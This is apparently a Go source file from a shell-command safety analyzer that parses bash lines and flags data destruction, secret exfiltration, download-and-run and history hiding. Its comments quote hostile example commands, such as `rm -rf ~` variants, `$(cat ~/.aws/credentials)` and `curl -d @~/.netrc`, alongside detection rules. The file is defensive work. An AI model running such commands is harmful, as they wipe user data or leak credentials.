// Package shell judges a shell command line by what it would do, not by how it looks: it parses
// the line with mvdan.cc/sh/v3 (bash dialect), resolves what can be resolved statically —
// variable assignments earlier on the line (the `IFS=,;c=rm,-rf,/;$c` trick), ANSI-C quoting,
// `$(echo ...)`, wrappers such as sudo, env, nohup, xargs, `sh -c`, `eval`, and what earlier
// commands set up: the working directory, aliases, functions, files written or downloaded then
// run, paths piped into xargs and the commands find's -exec runs (program.go), the commands
// programs such as watch, flock, git or tar run for their caller (carriers.go), values that reach
// a command through loops, read, set -- and defaults (flow.go); it reads interpreter one-liners
// (code.go, with their hiding spellings undone: codenorm.go) — and reports commands that destroy
// data outside the project, exfiltrate the environment or secrets, download (or decode) and run
// code, escalate privileges, or hide themselves, from rm to the tools in Catalogue (catalogue.go,
// destroy.go). Ordinary developer commands (builds, git log, cd, package managers, test runners)
// are not findings; some are questions (Finding.Uncertain).
//
// Pure Go, no go-pdk: the injection plugin and native tests share it.
package shell

import (
	"errors"
	"fmt"
	"io"
	"net/url"
	"path"
	"slices"
	"strconv"
	"strings"
	"sync"

	"github.com/added060/palisade/plugins/internal/lazyre"

	"mvdan.cc/sh/v3/expand"
	"mvdan.cc/sh/v3/syntax"
)

// MaxParseBytes is the longest command line callers should parse inside a plugin's memory
// cap: the syntax tree of a 64 KiB chain of commands does not fit 16 MiB of Wasm memory.
// plugins/injection judges a longer line context-free (every rule), which is stricter.
const MaxParseBytes = 16 << 10

// MaxDepth bounds nested interpretation (`sh -c "eval \"sh -c ...\""`). Deeper text is not
// looked at, and Result.Incomplete says so.
const MaxDepth = 16

// Finding is one dangerous thing the command does.
type Finding struct {
	Rule   string  // e.g. destroy/rm_outside, exfil/env_to_network
	Reason string  // one sentence for the verdict
	Match  string  // the command (argv joined) or fragment that showed it
	Score  float64 // confidence in (0,1]
	// Uncertain marks a finding a careful reviewer would ask about rather than refuse: a
	// package install with sudo, a script fetched over https from a named host piped into a
	// shell, deleting a vendored directory inside the project. plugins/injection asks when every finding of a
	// command is uncertain and denies when any is not.
	Uncertain bool
}

// Result is the analysis of one command line.
type Result struct {
	Findings []Finding
	// ParseErr is set when the line is not valid shell; nothing else was analysed.
	ParseErr error
	// Incomplete is set when nesting passed MaxDepth: part of the line was not analysed.
	Incomplete bool
	// Commands are the commands the line runs, each an argv after expansion and after
	// wrappers are dropped (`sudo`, `env`, `nohup`...), including those inside `sh -c`,
	// `eval` and command substitutions: what plugins/rules matches `commands` and
	// `engine_paths` against. At most MaxCommands; past that Incomplete is set.
	Commands [][]string
	// Files are the redirect targets and sources (`> f`, `< f`), expanded.
	Files []string
	// Writes are the Files only written (`> f`, `>> f`, `&> f`): the line opens them for
	// output and reads nothing from them.
	Writes []string
	// Network is set when a command of the line talks to the network (curl, wget, nc, ssh,
	// scp, rsync to a host, ...).
	Network bool
}

// MaxCommands bounds Result.Commands.
const MaxCommands = 256

// Analyze parses cmd and reports what in it is dangerous.
func Analyze(cmd string) Result {
	return (&analyzer{vars: map[string]string{}, src: cmd}).analyze(cmd)
}

// analyze judges the line cmd with a's settings (root).
func (a *analyzer) analyze(cmd string) Result {
	a.line(cmd, 0)
	t, ps := psToSh(cmd, false)
	if a.res.ParseErr != nil || ps {
		// Not shell: PowerShell's `iex (iwr URL)` does not parse as bash. Its words still say
		// what it does.
		a.powershell(cmd, cmd)
	}
	if ps {
		// PowerShell's or cmd's `Remove-Item -Recurse -Force $HOME` (pwsh.go)
		a.windows(t)
	}
	return a.res
}

// analyzer is the state of one line evaluated as a small program: what earlier commands set
// up is what later ones run with.
type analyzer struct {
	src   string // the whole line as given, before any expansion
	vars  map[string]string
	res   Result
	depth int
	// cwd is the working directory that cd set: "" is the project directory (where the line
	// starts); otherwise a cleaned path, relative to the project ("build", "../.."), absolute,
	// "~"-based, or "?" when unknown (`cd -`).
	cwd string
	// root is the project's folder, absolute (AnalyzeIn, root.go): a path inside it is judged
	// as the path relative to it; "" when the line's project folder is not known.
	root string
	// callDir is the folder the line runs in when the call names one that cannot be a
	// project's (AnalyzeIn: `/`, a home, a system folder), cleaned and absolute; "" otherwise.
	callDir string
	params  []string                // positional parameters inside a function call; nil = unknown
	arg0    string                  // $0 inside `sh -c CMD NAME`; "" = unknown
	aliases map[string]string       // alias name → text
	funcs   map[string]*syntax.Stmt // function name → body
	calling map[string]bool         // functions whose body is being judged (a call inside is recursion)
	written map[string]string       // file → text an echo, printf or heredoc wrote into it
	fetched map[string]bool         // file → downloaded earlier on the line
	// httpsFile: file → every download into it was over https from a named host (httpsFetch)
	httpsFile map[string]bool
	remotes   map[string]bool   // git remotes added earlier on the line
	made      map[string]bool   // folders mkdir made earlier on the line (fileKey)
	archives  map[string]string // archive file (fileKey) → "home" or "project": what it holds (noteArchive)
	expired   bool              // git reflog expire --expire=now ran
	work      int               // commands judged, bounded by maxWork
	feedRec   bool              // the paths fed through xargs came from find (recursive)
	feeding   bool              // the command's operands came through xargs, not from the line
	// procFeed: the paths the last `<(CMD)` on the line lists (echo, printf, ls, find), read
	// as the file procFile by xargs -a or a `<` redirect; procRec: find listed them.
	procFeed []string
	procRec  bool
	// procText: what the last `<(CMD)` prints when CMD lists no paths (subst: `$(env)`),
	// the line a read or mapfile redirected from it gets (det67).
	procText string
	// inContainer counts the `docker exec`/`kubectl exec` commands being judged: what they
	// do happens inside a container, not to this host's paths, so it asks (carriers.go).
	inContainer int
	piped       bool // the command reads a pipe (a stage after the first)
	// elevated counts the sudo, doas, su, pkexec and run0 the command runs under.
	elevated int
	// stdin counts the enclosing statements whose standard input the line redirects (`<`,
	// `<<`, `<<<`, `<&`); fedAll is set once `exec <file` redirects it for the rest of the line.
	stdin  int
	fedAll bool
	// ztcp: zsh's ztcp opened a connection earlier on the line (its descriptor is $REPLY, or
	// the one -d names): a later copy of any descriptor but 0, 1 and 2 hands a command to it.
	ztcp bool
	// rawRequest: the line being judged is a hand-made request over /dev/tcp (rawRequest).
	rawRequest bool
	// hashed: `hash -p` bound a command name to a file earlier on the line.
	hashed bool
	// inPipe: the statement being judged is a stage of a pipeline (its output goes to the
	// next stage, or its input comes from the previous one); inSubst counts the command
	// substitutions being judged (their output is captured): exfil.go secretPrint.
	inPipe  bool
	inSubst int
	// arrays: name → elements of an array assigned earlier on the line (`a=(rm -rf ~)`).
	arrays map[string][]string
	// defaults: expanding with every variable the line never set unset, so that the defaults
	// of `${X:-word}` stand in (flow.go fieldsWithDefaults).
	defaults bool
	// wholeFile: the code judged is a whole source file or a piece of one (AnalyzeCode), not
	// a one-liner (code.go together).
	wholeFile bool
	// gen numbers the statement being judged (stmt); substs keeps what each command
	// substitution expanded to in it, so the several expansions of one statement's words
	// (its redirects, its start-up file check, its argv) judge the substitution once.
	gen, lastGen int
	substs       map[*syntax.CmdSubst]substMemo
}

// substMemo is a command substitution's expansion in one statement, under one working
// directory and one mode of expanding unset variables.
type substMemo struct {
	gen      int
	cwd      string
	defaults bool
	out      string
}

// parsers reuses bash parsers (one is not safe for concurrent use; a new one allocates its
// buffers again).
var parsers = sync.Pool{New: func() any { return syntax.NewParser(syntax.Variant(syntax.LangBash)) }}

func (a *analyzer) add(rule, reason, match string, score float64) {
	a.addFinding(Finding{Rule: rule, Reason: reason, Match: match, Score: score})
}

// ask adds a finding a careful reviewer would ask about (Finding.Uncertain).
func (a *analyzer) ask(rule, reason, match string, score float64) {
	a.addFinding(Finding{Rule: rule, Reason: reason, Match: match, Score: score, Uncertain: true})
}

func (a *analyzer) addFinding(f Finding) {
	if a.inContainer > 0 {
		f.Uncertain = true // carriers.go execIn
	}
	if len(f.Match) > 160 {
		f.Match = f.Match[:160]
	}
	for i, g := range a.res.Findings {
		if g.Rule == f.Rule && g.Match == f.Match {
			if g.Uncertain && !f.Uncertain {
				a.res.Findings[i] = f
			}
			return
		}
	}
	a.res.Findings = append(a.res.Findings, f)
}

// line parses and analyses src at nesting depth d.
func (a *analyzer) line(src string, d int) {
	if d > MaxDepth {
		a.res.Incomplete = true
		return
	}
	f, err := parse(src)
	if err != nil {
		if closed, ok := closeHeredocs(src); ok {
			f, err = closed, nil
		} else if closed, ok := closeBlock(src, err); ok && d == 0 {
			f, err = closed, nil
		}
	}
	if err != nil {
		if d == 0 {
			a.res.ParseErr = err
		}
		return
	}
	saved, savedRaw := a.depth, a.rawRequest
	a.depth, a.rawRequest = d, rawRequest(f)
	for _, s := range f.Stmts {
		a.stmt(s)
	}
	a.depth, a.rawRequest = saved, savedRaw
}

func parse(src string) (*syntax.File, error) {
	p := parsers.Get().(*syntax.Parser)
	defer parsers.Put(p)
	return p.Parse(strings.NewReader(src), "")
}

// heredocOpen finds the here-documents a line opens (`<<EOF`, `<<-'EOF'`, `<< "END"`; not the
// here-string `<<<`) and their delimiters.
var heredocOpen = lazyre.New(`(?:^|[^<])<<-?[ \t]*(?:'([^'\n]+)'|"([^"\n]+)"|\\?([^\s<>|&;()'"]+))`)

// maxHeredocs bounds how many here-documents closeHeredocs closes.
const maxHeredocs = 8

// closeHeredocs parses src as bash runs it when its last here-documents have no closing line:
// bash reads the body up to the end of the input and runs the command ("here-document at line
// N delimited by end-of-file", a warning; bash(1) "Here Documents"), where the parser refuses
// the line. A record cut after `cat <<EOF | sudo tee /etc/x.conf` is that command with the body
// it has. The unclosed ones are the last (a body without its delimiter swallows the rest of the
// line), so the last k delimiters are appended, k = 1, 2, ..., until the line parses; ok is
// false when none does (an unclosed quote, a syntax error elsewhere).
func closeHeredocs(src string) (*syntax.File, bool) {
	if !strings.Contains(src, "<<") {
		return nil, false
	}
	var stops []string
	for _, m := range heredocOpen.FindAllStringSubmatch(src, maxHeredocs) {
		stops = append(stops, m[1]+m[2]+m[3])
	}
	for k := 1; k <= len(stops); k++ {
		if f, err := parse(src + "\n" + strings.Join(stops[len(stops)-k:], "\n") + "\n"); err == nil {
			return f, true
		}
	}
	return nil, false
}

// blockClosers end a line cut inside a compound command: a script or workflow line taken alone
// (`cmd > /dev/null || {`, `if [ -f x ]; then`, `for f in *.go; do`, `a |`), each with a
// command where the block needs one.
var blockClosers = []string{"\n:\n}", "\n:\nfi", "\n:\ndone", "\n:\n)", " :", "\n:\nesac", "\nfi", "\ndone", "\n}"}

// closeBlock parses src as the command it starts when the parser stopped only for want of more
// input (syntax.IsIncomplete: an open `{`, `then`, `do`, `(`, a trailing `||`): bash would run
// nothing, so the line is judged as what it would run once closed, every command in it
// included, not as unparsed text of unknown kind (where `/dev/null` reads as a system folder;
// issue 26, fifth round, shell-extra calib). ok is false when no closer makes it parse.
func closeBlock(src string, err error) (*syntax.File, bool) {
	if !syntax.IsIncomplete(err) {
		return nil, false
	}
	for _, c := range blockClosers {
		if f, err := parse(src + c); err == nil {
			return f, true
		}
	}
	return nil, false
}

// env resolves variables: those assigned earlier on the line; IFS unset means the default; any
// other unknown variable stands for itself ("$HOME"), so later checks can still see it.
type env struct{ a *analyzer }

func (e env) Get(name string) expand.Variable {
	if name == "0" && e.a.arg0 != "" {
		return expand.Variable{Set: true, Kind: expand.String, Str: e.a.arg0}
	}
	if p := e.a.params; p != nil {
		switch {
		case name == "@" || name == "*":
			return expand.Variable{Set: true, Kind: expand.Indexed, List: p}
		case name == "#":
			return expand.Variable{Set: true, Kind: expand.String, Str: fmt.Sprint(len(p))}
		case len(name) == 1 && name[0] >= '1' && name[0] <= '9':
			if i := int(name[0] - '1'); i < len(p) {
				return expand.Variable{Set: true, Kind: expand.String, Str: p[i]}
			}
			return expand.Variable{Set: true, Kind: expand.String}
		}
	}
	if arr, ok := e.a.arrays[name]; ok {
		return expand.Variable{Set: true, Kind: expand.Indexed, List: arr}
	}
	if v, ok := e.a.vars[name]; ok {
		return expand.Variable{Set: true, Kind: expand.String, Str: v}
	}
	if name == "IFS" || e.a.defaults && !alwaysSet[name] {
		return expand.Variable{}
	}
	return expand.Variable{Set: true, Kind: expand.String, Str: "$" + name}
}

func (e env) Each(fn func(string, expand.Variable) bool) {
	for k, v := range e.a.vars {
		if !fn(k, expand.Variable{Set: true, Kind: expand.String, Str: v}) {
			return
		}
	}
}

// cfg returns a fresh expansion config: expand keeps per-expansion state in it, and a command
// substitution expands words again while the outer expansion is under way.
func (a *analyzer) cfg() *expand.Config {
	return &expand.Config{
		Env: env{a},
		CmdSubst: func(w io.Writer, cs *syntax.CmdSubst) error {
			if m, ok := a.substs[cs]; ok && m.gen == a.gen && m.cwd == a.cwd && m.defaults == a.defaults {
				_, err := io.WriteString(w, m.out)
				return err
			}
			gen, cwd, defaults := a.gen, a.cwd, a.defaults
			out := a.subst(cs.Stmts)
			if a.substs == nil {
				a.substs = map[*syntax.CmdSubst]substMemo{}
			}
			a.substs[cs] = substMemo{gen: gen, cwd: cwd, defaults: defaults, out: out}
			_, err := io.WriteString(w, out)
			return err
		},
		ProcSubst: func(ps *syntax.ProcSubst) (string, error) {
			t := a.subst(ps.Stmts)
			if remote(t) {
				return t, nil
			}
			if ps.Op == syntax.CmdIn {
				a.procListed(ps.Stmts) // flow.go: `xargs -a <(echo ~) rm -rf`
				a.procText = t
			}
			return procFile, nil
		},
	}
}

// remoteMarker is what a substitution that fetches from the network expands to.
const remoteMarker = "$(remote-content)"

// httpsMarker is what a substitution that fetches over https from a named host expands to
// (httpsFetch: `bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/
// install/HEAD/install.sh)"`, `bash <(curl …)`). It contains remoteMarker, so every check for
// downloaded text still finds it; only a shell given exactly it as its -c string, its script
// file or the file `source` reads asks instead of refusing (interp, source). A variable
// assigned it holds remoteMarker instead (assign): eval or a shell of a variable that holds a
// fetch is refused.
const httpsMarker = remoteMarker + "$(https-named-host)"

// secretMarker is what a substitution that prints a secret file's content expands to, read as
// is or through encoders and filters (`$(cat ~/.aws/credentials)`, `$(base64 -w0 ~/.ssh/id_rsa)`,
// `$(cat ~/.netrc | base64 | tr -d '\n')`): a network command given it in any argument sends the
// file (net: exfil/secret_file), as `curl -d @~/.netrc` does.
const secretMarker = "$(secret-file)"

// secretRead reports whether a command prints a secret file's content (secretSource without the
// environment's dumps, which envSubst names, and without a CLI printing its own token, which
// is sent to its issuer as often as elsewhere: authTarget judges the variable it goes into).
func secretRead(argv []string) bool {
	if len(argv) == 0 {
		return false
	}
	name := base(argv[0])
	switch name {
	case "env", "printenv", "set":
		return false
	}
	return !credentialPrinter(name, argv[1:]) && secretSource(name, argv[1:])
}

// secretFilter are the commands that pass on what they read, encoded or in part: a secret
// read before them is still the secret after them.
var secretFilter = set("base64", "base32", "basenc", "xxd", "od", "hexdump", "gzip", "bzip2", "xz", "zstd",
	"tr", "head", "tail", "sed", "awk", "gawk", "mawk", "cut", "rev", "cat", "sort", "grep", "egrep", "fold", "paste")

// decodedMarker is what a substitution that decodes or transforms text given on the line
// stands for when the result is not computed here (`$(tr -d x <<< rxmx)`, `$(echo … | tr a-z
// n-za-m)`): a command named by it, or a shell given it as code, runs text the line hides.
const decodedMarker = "$(decoded-text)"

// remote reports whether the word x stands for downloaded text.
func remote(x string) bool { return x == remoteMarker || x == httpsMarker }

// subst analyses a command substitution and returns what stands for its output: the words of
// an echo/printf, remoteMarker for a network fetch, else "$(argv...)".
func (a *analyzer) subst(stmts []*syntax.Stmt) string {
	// Each substitution judged is work: nested ones are expanded again by each expansion of
	// the words around them (`$(echo $(echo $(…)))` doubled per level: 20 levels took 14 s).
	if a.work++; a.work > maxWork {
		a.res.Incomplete = true
		return "$(...)"
	}
	cwd := a.cwd
	// The statement number stmt gives a lone statement (below): its words are expanded again
	// under it, so the substitutions inside them come from its memo instead of being judged
	// again, once per level of nesting.
	gen := a.lastGen + 1
	a.inSubst++
	for _, s := range stmts {
		a.stmt(s)
	}
	a.inSubst--
	a.cwd = cwd // the substitution runs in a subshell: its cd ends with it
	if len(stmts) != 1 {
		return "$(...)"
	}
	defer func(prev int) { a.gen = prev }(a.gen)
	a.gen = gen
	var argv []string
	switch c := stmts[0].Cmd.(type) {
	case *syntax.CallExpr:
		argv = a.fields(c.Args)
	case *syntax.DeclClause:
		if declDump(c) {
			return "$(export -p)" // `$(export -p)`, `$(declare -x)`: the environment (det69)
		}
		return "$(...)"
	case *syntax.BinaryCmd:
		if ce, ok := cdThen(c); ok {
			// `$(cd rust && cargo llvm-cov show-env --sh)`: what the second command prints
			argv = a.fields(ce.Args)
			break
		}
		if c.Op != syntax.Pipe && c.Op != syntax.PipeAll {
			return "$(...)"
		}
		stages := pipeline(c)
		for _, st := range stages {
			if ce, ok := st.Cmd.(*syntax.CallExpr); ok && fetcher(base(first(a.fields(ce.Args)))) {
				return remoteMarker
			}
		}
		if a.envPipe(stages) {
			// `< <(env | grep KEY)`, `$(printenv | cut -d= -f2)`: part of the environment,
			// judged as all of it (det69)
			return "$(env)"
		}
		if a.secretPipe(stages) {
			return secretMarker // `$(cat ~/.aws/credentials | base64)`
		}
		if t, ok := a.decoded(stages); ok {
			return t
		}
		if a.transformsText(stages) {
			return decodedMarker
		}
		return "$(...)"
	default:
		return "$(...)"
	}
	if len(argv) == 0 {
		return ""
	}
	if text, ok := a.hereText(stmts[0].Redirs); ok {
		// `$(base64 -d <<< cm0g…)`: what the decoder prints from the here-string; a
		// transformation not computed here (`$(tr -d x <<< rxmx)`) stands for decoded text.
		if t, ok := decodeText(argv, text); ok {
			return t
		}
		if n := base(argv[0]); decoder(n, argv[1:]) || n == "tr" || n == "sed" || n == "awk" {
			return decodedMarker
		}
	}
	switch base(argv[0]) {
	case "echo":
		return echoText(argv[1:])
	case "printf":
		return printfText(argv[1:])
	case "pwd":
		return "$PWD" // resolve reads it as the working directory
	case "dirname", "realpath":
		// `$(dirname "$PWD")`, `$(realpath ..)`: the path they print, where the line names it
		if ops := operands(argv[1:]); len(ops) == 1 && !strings.ContainsAny(ops[0], "`*?[") && (!strings.Contains(ops[0], "$") || strings.HasPrefix(ops[0], "$PWD") || home(ops[0])) {
			if base(argv[0]) == "realpath" {
				return path.Clean(ops[0])
			}
			if strings.HasPrefix(ops[0], "$") || home(ops[0]) {
				return strings.TrimRight(ops[0], "/") + "/.."
			}
			return path.Dir(path.Clean(ops[0]))
		}
	}
	if fetcher(base(argv[0])) {
		if httpsFetch(base(argv[0]), argv[1:]) {
			return httpsMarker
		}
		return remoteMarker
	}
	if secretRead(unwrapRoot(argv)) {
		return secretMarker // `$(cat ~/.netrc)`, `$(base64 -w0 ~/.ssh/id_rsa)`
	}
	return "$(" + strings.Join(argv, " ") + ")"
}

// cdThen returns the command of `cd DIR && CMD` with DIR a literal word: inside a command
// substitution its output is CMD's, run in DIR (the substitution's cd ends with it).
func cdThen(c *syntax.BinaryCmd) (*syntax.CallExpr, bool) {
	if c.Op != syntax.AndStmt {
		return nil, false
	}
	cd, ok := c.X.Cmd.(*syntax.CallExpr)
	if !ok || len(cd.Args) != 2 || cd.Args[0].Lit() != "cd" || cd.Args[1].Lit() == "" || len(c.X.Redirs) > 0 {
		return nil, false
	}
	ce, ok := c.Y.Cmd.(*syntax.CallExpr)
	return ce, ok && len(c.Y.Redirs) == 0
}

func first(s []string) string {
	if len(s) == 0 {
		return ""
	}
	return s[0]
}

// fields expands words to argv; on an expansion error each word's literal text stands in.
func (a *analyzer) fields(ws []*syntax.Word) []string {
	var out []string
	for _, w := range ws {
		// `echo {a,b}{a,b}…` (18 of them, 95 bytes) expands to 262,144 words, two seconds
		// natively; `{1..9999999999}` to more than memory holds. Count first: a word past
		// maxBraceFields is not expanded (its text is judged) and the line is incomplete.
		n := braceFields(w)
		if n > maxBraceFields {
			a.res.Incomplete = true
			out = out[:0]
			for _, w := range ws {
				out = append(out, wordText(w))
			}
			return out
		}
		if a.work += n / 16; a.work > maxWork {
			a.res.Incomplete = true
		}
	}
	err := safeExpand(func() (err error) {
		out, err = expand.Fields(a.cfg(), ws...)
		return err
	})
	if err == nil {
		return a.inRootAll(out)
	}
	out = out[:0]
	for _, w := range ws {
		out = append(out, wordText(w))
	}
	return a.inRootAll(out)
}

// maxBraceFields bounds the words one word's brace expansion may give.
const maxBraceFields = 4096

// braceFields is how many words brace expansion makes of w (expand.Braces' count), at most
// maxBraceFields+1.
func braceFields(w *syntax.Word) int {
	// Braces expand only in the word's literal parts: a word with no `{` in one is one word
	// (checked part by part: Word.Lit would join the parts into a new string first).
	if !slices.ContainsFunc(w.Parts, func(p syntax.WordPart) bool {
		l, ok := p.(*syntax.Lit)
		return ok && strings.Contains(l.Value, "{")
	}) {
		return 1
	}
	cp := *w
	cp.Parts = slices.Clone(w.Parts)
	syntax.SplitBraces(&cp)
	return braceCount(cp.Parts)
}

// braceCount multiplies the counts of parts' brace expressions: a sequence gives its steps, a
// list the sum of its elements' counts; saturating past maxBraceFields.
func braceCount(parts []syntax.WordPart) int {
	total := 1
	for _, p := range parts {
		br, ok := p.(*syntax.BraceExp)
		if !ok {
			continue
		}
		n := 0
		if br.Sequence && len(br.Elems) >= 2 {
			n = seqSteps(br.Elems)
		} else {
			for _, e := range br.Elems {
				if n += braceCount(e.Parts); n > maxBraceFields {
					break
				}
			}
		}
		if total = total * max(n, 1); total > maxBraceFields {
			return maxBraceFields + 1
		}
	}
	return total
}

// seqSteps is the number of words {from..to[..incr]} gives, as expand.Braces walks it.
func seqSteps(elems []*syntax.Word) int {
	from, err1 := strconv.Atoi(elems[0].Lit())
	to, err2 := strconv.Atoi(elems[1].Lit())
	if err1 != nil || err2 != nil {
		f, t := elems[0].Lit(), elems[1].Lit()
		if f == "" || t == "" {
			return 1
		}
		from, to = int(f[0]), int(t[0])
	}
	incr := 1
	if len(elems) > 2 {
		if n, err := strconv.Atoi(elems[2].Lit()); err == nil && n != 0 {
			incr = n
		}
	}
	span := uint64(to) - uint64(from) // exact for any two ints
	if to < from {
		span = uint64(from) - uint64(to)
	}
	step := uint64(incr)
	if incr < 0 {
		step = uint64(-incr)
	}
	if (to >= from) != (incr > 0) {
		step = 1 // expand.Braces steps by 1 the way the ends point when incr points the other way
	}
	steps := span/step + 1
	if steps > maxBraceFields {
		return maxBraceFields + 1
	}
	return int(steps)
}

func wordText(w *syntax.Word) string {
	var b strings.Builder
	_ = syntax.NewPrinter().Print(&b, w)
	return b.String()
}

func (a *analyzer) literal(w *syntax.Word) string {
	if w == nil {
		return ""
	}
	var s string
	err := safeExpand(func() (err error) {
		s, err = expand.Literal(a.cfg(), w)
		return err
	})
	if err != nil {
		return a.inRoot(wordText(w))
	}
	return a.inRoot(s)
}

// errExpandPanic stands for a panic inside mvdan.cc/sh's expander: v3.12.0 builds a regexp it
// cannot compile from a pattern such as `${x%%[![:space:]]*}` and panics. In the Wasm plugin a
// panic is a trap, so the stage failed closed and the whole line was denied; the word's literal
// text stands in instead, as for any expansion error.
var errExpandPanic = errors.New("shell: expansion panicked")

// safeExpand runs f, turning a panic into errExpandPanic.
func safeExpand(f func() error) (err error) {
	defer func() {
		if recover() != nil {
			err = errExpandPanic
		}
	}()
	return f()
}

func (a *analyzer) assign(as *syntax.Assign) {
	if as.Name == nil {
		return
	}
	// A value keeps its paths as written: where a path inside the project points depends on
	// where cd has gone when the variable is used (root.go).
	root := a.root
	a.root = ""
	defer func() { a.root = root }()
	if as.Array != nil {
		// `a=(rm -rf ~)`: the array's elements, for "${a[@]}" (flow.go arrays).
		var elems []string
		for _, e := range as.Array.Elems {
			if e.Value != nil {
				elems = append(elems, a.fields([]*syntax.Word{e.Value})...)
			}
		}
		// Expanding an array costs its elements: `a=("${a[@]}" "${a[@]}")` 200 times
		// copied 8,192 strings a statement, 0.3 s natively, before each 16 were charged a
		// unit of work (the budget then ends the line incomplete in milliseconds).
		if a.work += len(elems) / 16; a.work > maxWork {
			a.res.Incomplete = true
		}
		a.setArray(as.Name.Value, elems) // flow.go
		return
	}
	v := strings.ReplaceAll(a.literal(as.Value), httpsMarker, remoteMarker) // a fetch held in a variable is refused when run (httpsMarker)
	if as.Append {
		v = a.vars[as.Name.Value] + v
	}
	// A value costs its bytes, a unit a 4 KiB: `v1="$v0$v0"` per statement copies up to
	// maxValue bytes each time (25 ms natively for 200 of them before this charge).
	if a.work += len(v) >> 12; a.work > maxWork {
		a.res.Incomplete = true
	}
	if len(v) > maxValue {
		// `v1="$v0$v0"; v2="$v1$v1"; …` doubles a value per statement: 200 of them would
		// hold 2^200 bytes. What is past the cap is not judged, and the line says so.
		v = v[:maxValue]
		a.res.Incomplete = true
	}
	a.vars[as.Name.Value] = v
	if goRegistryVar(as.Name.Value, v) {
		a.ask("exec/package_index", "points later package installs at another registry or turns their checks off ("+as.Name.Value+")", as.Name.Value+"="+v, 0.85)
	}
	if !as.Naked && tlsOffVar(as.Name.Value, v) {
		a.ask("exec/tls_off", "turns certificate checks off for the programs that read "+as.Name.Value, as.Name.Value+"="+v, 0.85)
	}
	if preloadVar(as.Name.Value) && v != "" {
		a.ask("priv/preload", "makes every later program load a library the line names ("+as.Name.Value+")", as.Name.Value+"="+v, 0.85)
	}
	switch as.Name.Value {
	case "HISTFILE", "HISTSIZE", "HISTFILESIZE":
		if v == "/dev/null" || v == "0" || v == "" {
			a.add("hide/history", "disables shell history", as.Name.Value+"="+v, 0.9)
		}
	}
}

func (a *analyzer) stmt(s *syntax.Stmt) {
	if s == nil {
		return
	}
	if a.work > maxWork {
		a.res.Incomplete = true // the work budget is spent: nothing more is judged (maxWork)
		return
	}
	prev := a.gen
	a.lastGen++
	a.gen = a.lastGen
	defer func() { a.gen = prev }()
	probe := a.portCheck(s)
	for _, r := range s.Redirs {
		if (probe || a.rawRequest) && devTCP(a.literal(r.Word)) {
			continue // nothing sent, nothing run: a port check (portCheck)
		}
		a.redirect(r)
	}
	a.shellInWords(s)
	a.startupText(s)
	if readsRedirect(s.Redirs) {
		a.stdin++
		defer func() { a.stdin-- }()
		if c, ok := s.Cmd.(*syntax.CallExpr); ok && len(c.Args) == 1 && c.Args[0].Lit() == "exec" {
			a.fedAll = true
		}
	}
	switch c := s.Cmd.(type) {
	case *syntax.CallExpr:
		for _, as := range c.Assigns {
			a.assign(as)
		}
		if len(c.Args) > 0 {
			argv := a.fields(c.Args)
			a.writes(argv, s.Redirs)
			a.command(argv)
			if a.unsetDefault(c.Args) {
				if alt := a.fieldsWithDefaults(c.Args); !slices.Equal(alt, argv) {
					a.command(alt) // `${RM:-rm} -rf ~` (flow.go)
				}
			}
			a.fedInput(argv, s.Redirs)
			a.secretPrint(argv, s.Redirs) // exfil.go
			a.heredocRun(argv, s.Redirs)
			a.stdinScript(argv, s.Redirs)
			a.cronHeredoc(argv, s.Redirs)
			a.gitConfigSent(argv, s.Redirs) // exfil.go
		}
	case *syntax.FuncDecl:
		if c.Name != nil && c.Body != nil {
			if a.funcs == nil {
				a.funcs = map[string]*syntax.Stmt{}
			}
			a.funcs[c.Name.Value] = c.Body
		}
		a.stmt(c.Body)
	case *syntax.Subshell:
		cwd := a.cwd
		for _, st := range c.Stmts {
			a.stmt(st)
		}
		a.cwd = cwd
		if a.printsEnv(c.Stmts) {
			a.envWritten(nil, s.Redirs) // `(env) > e`, `(printenv | sort; date) > e` (program.go)
		}
	case *syntax.BinaryCmd:
		if c.Op == syntax.Pipe || c.Op == syntax.PipeAll {
			a.pipe(pipeline(c))
			return
		}
		a.stmt(c.X)
		a.stmt(c.Y)
	case *syntax.DeclClause:
		if declDump(c) {
			a.envWritten(nil, s.Redirs) // `export -p > f`, `declare -x > f` (program.go)
		}
		for _, as := range c.Args {
			if as.Name != nil && as.Value == nil && as.Naked && c.Variant != nil && c.Variant.Value == "unset" {
				continue
			}
			a.assign(as)
		}
		if c.Variant != nil && c.Variant.Value == "unset" {
			for _, as := range c.Args {
				if as.Name != nil && as.Name.Value == "HISTFILE" {
					a.add("hide/history", "disables shell history", "unset HISTFILE", 0.9)
				}
			}
		}
	case nil:
		// Redirects only (`> /var/log/auth.log`): judged above.
	default:
		if b, ok := c.(*syntax.Block); ok && a.printsEnv(b.Stmts) {
			a.envWritten(nil, s.Redirs) // `{ env; } > e` (program.go)
		}
		// A for loop over known items, or a while-read loop over a here-string, is judged
		// once for each item (flow.go).
		if fc, ok := c.(*syntax.ForClause); ok && a.forLoop(fc) {
			return
		}
		if a.readLoop(s, nil) {
			return
		}
		// Compound commands (if, for, while, case, subshells, blocks, functions, time):
		// analyse every statement inside.
		syntax.Walk(s.Cmd, func(n syntax.Node) bool {
			if st, ok := n.(*syntax.Stmt); ok {
				a.stmt(st)
				return false
			}
			return true
		})
	}
}

// readsRedirect reports whether redirs give a command's standard input something to read.
func readsRedirect(redirs []*syntax.Redirect) bool {
	for _, r := range redirs {
		switch r.Op {
		case syntax.RdrIn, syntax.RdrInOut, syntax.DplIn, syntax.Hdoc, syntax.DashHdoc, syntax.WordHdoc:
			if r.N == nil || r.N.Value == "0" {
				return true
			}
		}
	}
	return false
}

// stdinFed reports whether the command being judged reads a pipe or a redirected standard input.
func (a *analyzer) stdinFed() bool { return a.piped || a.stdin > 0 || a.fedAll }

// pipeline flattens a | b | c into its stages.
func pipeline(c *syntax.BinaryCmd) []*syntax.Stmt {
	var out []*syntax.Stmt
	var walk func(s *syntax.Stmt)
	walk = func(s *syntax.Stmt) {
		if b, ok := s.Cmd.(*syntax.BinaryCmd); ok && (b.Op == syntax.Pipe || b.Op == syntax.PipeAll) {
			walk(b.X)
			walk(b.Y)
			return
		}
		out = append(out, s)
	}
	walk(&syntax.Stmt{Cmd: c})
	return out
}

// unwrapRoot drops the wrappers (unwrap) and sudo or doas with their options: the command
// that runs, as root or not.
func unwrapRoot(argv []string) []string {
	argv = unwrap(argv)
	for len(argv) > 1 && (base(argv[0]) == "sudo" || base(argv[0]) == "doas") {
		argv = unwrap(argv[1:])
		for len(argv) > 1 && strings.HasPrefix(argv[0], "-") {
			argv = argv[1:]
		}
	}
	return argv
}

